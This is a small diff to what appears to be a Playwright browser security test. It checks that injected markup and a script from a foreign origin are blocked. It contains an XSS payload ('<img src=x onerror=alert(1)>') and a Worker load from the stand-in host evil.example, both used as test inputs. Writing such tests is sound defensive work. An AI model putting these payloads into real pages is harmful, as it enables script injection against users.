@@ -30,7 +30,7 @@ test('text does not become markup, and no foreign script is begun', async ({ pag
     page.evaluate(async (kind) => {
       try {
         if (kind === 'markup') document.body.innerHTML = '<img src=x onerror=alert(1)>'
-        if (kind === 'foreign worker') new Worker('https://evil.example/x.js')
+        if (kind === 'foreign worker') return String(new Worker('https://evil.example/x.js'))
         if (kind === 'own service worker') await navigator.serviceWorker.register('/assets/nothing.js')
         return 'allowed'
       } catch (error) {
